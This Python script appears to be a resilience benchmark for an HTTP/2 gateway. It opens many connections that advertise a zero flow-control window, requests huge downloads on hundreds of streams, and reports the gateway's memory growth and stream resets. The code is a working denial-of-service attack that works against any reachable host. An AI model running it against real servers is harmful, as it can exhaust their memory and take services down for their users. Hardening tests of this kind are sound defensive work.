#!/usr/bin/env python3
"""HTTP/2 zero-window attack: each connection announces SETTINGS_INITIAL_WINDOW_SIZE = 0
and opens many large downloads, then reads nothing but frames the server sends unasked
(RST_STREAM, GOAWAY, PING). A gateway that keeps pulling response bytes it cannot send
grows without bound; a hardened one holds little per stream and resets stalled streams.

Prints the gateway's RSS (sampled from /proc with --pid) before, at its peak, while the
attack holds, and after the attacker has left, plus how many streams the server reset.

    python3 bench/attacks/zero_window.py --port 8080 --pid $(pgrep -n weir) \
        --conns 12 --streams 256 --hold 45 --after 10

Python 3 standard library only; HPACK is written as literals without Huffman coding.
"""

import argparse
import socket
import struct
import threading
import time

from gateway_process import rss_kib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE = 0x4, 0x5


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, new name, no Huffman coding."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_block(host, path):
    return b"".join(literal(n, v) for n, v in
                    [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", host)])


def read_exact(sock, n):
    buf = b""
    while len(buf) < n:
        part = sock.recv(n - len(buf))
        if not part:
            raise ConnectionError("closed")
        buf += part
    return buf


class Attacker(threading.Thread):
    """One connection: zero window, `streams` downloads, then holds until told to stop."""

    def __init__(self, args, stop):
        super().__init__(daemon=True)
        self.args, self.stop = args, stop
        self.resets = {}
        self.goaway = False
        self.closed_at = None
        self.data_bytes = 0

    def run(self):
        a = self.args
        try:
            sock = socket.create_connection((a.host, a.port))
        except OSError:
            self.closed_at = time.monotonic()
            return
        sock.settimeout(0.5)
        settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        block = request_block(f"{a.host}:{a.port}", a.path)
        out = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block) for i in range(a.streams))
        sock.sendall(out)
        self.started = time.monotonic()
        try:
            while not self.stop.is_set():
                try:
                    head = read_exact(sock, 9)
                except socket.timeout:
                    continue
                length = int.from_bytes(head[:3], "big")
                kind, flags = head[3], head[4]
                payload = read_exact(sock, length) if length else b""
                if kind == SETTINGS and not flags & ACK:
                    sock.sendall(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    sock.sendall(frame(PING, ACK, 0, payload))
                elif kind == RST_STREAM:
                    code = int.from_bytes(payload[:4], "big")
                    self.resets[code] = self.resets.get(code, 0) + 1
                elif kind == DATA:
                    self.data_bytes += length
                elif kind == GOAWAY:
                    self.goaway = True
        except (ConnectionError, OSError):
            self.closed_at = time.monotonic()
        finally:
            sock.close()


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, default=8080)
    p.add_argument("--pid", type=int, help="the gateway's process id, for RSS")
    p.add_argument("--conns", type=int, default=12)
    p.add_argument("--streams", type=int, default=256, help="downloads opened per connection")
    p.add_argument("--path", default="/stream/download?bytes=1000000000")
    p.add_argument("--hold", type=float, default=45, help="seconds the attacker stays")
    p.add_argument("--after", type=float, default=10, help="seconds watched after it left")
    a = p.parse_args()

    rss = (lambda: rss_kib(a.pid)) if a.pid else (lambda: 0)
    before = rss()
    stop = threading.Event()
    attackers = [Attacker(a, stop) for _ in range(a.conns)]
    start = time.monotonic()
    for t in attackers:
        t.start()
    peak = before
    while time.monotonic() - start < a.hold:
        peak = max(peak, rss())
        time.sleep(0.25)
    held = rss()
    stop.set()
    for t in attackers:
        t.join()
    left = time.monotonic()
    after_peak = 0
    while time.monotonic() - left < a.after:
        after_peak = max(after_peak, rss())
        time.sleep(0.25)
    after = rss()
    resets = {}
    for t in attackers:
        for code, n in t.resets.items():
            resets[code] = resets.get(code, 0) + n
    named = {0x7: "REFUSED_STREAM", 0x8: "CANCEL"}
    by_code = ", ".join(f"{named.get(c, hex(c))} {n}" for c, n in sorted(resets.items())) or "none"
    closed = sum(1 for t in attackers if t.closed_at is not None)
    print(f"connections {a.conns} x streams {a.streams} for {a.hold:.0f}s")
    print(f"rss_before_mib {before / 1024:.1f}")
    print(f"rss_peak_mib {peak / 1024:.1f}")
    print(f"rss_at_end_of_hold_mib {held / 1024:.1f}")
    print(f"rss_after_leaving_mib {after / 1024:.1f} (after {a.after:.0f}s)")
    print(f"streams_reset_by_server {sum(resets.values())} of {a.conns * a.streams} ({by_code})")
    print(f"connections_closed_by_server {closed} goaway {sum(t.goaway for t in attackers)}")
    print(f"data_bytes_received {sum(t.data_bytes for t in attackers)}")


if __name__ == "__main__":
    main()
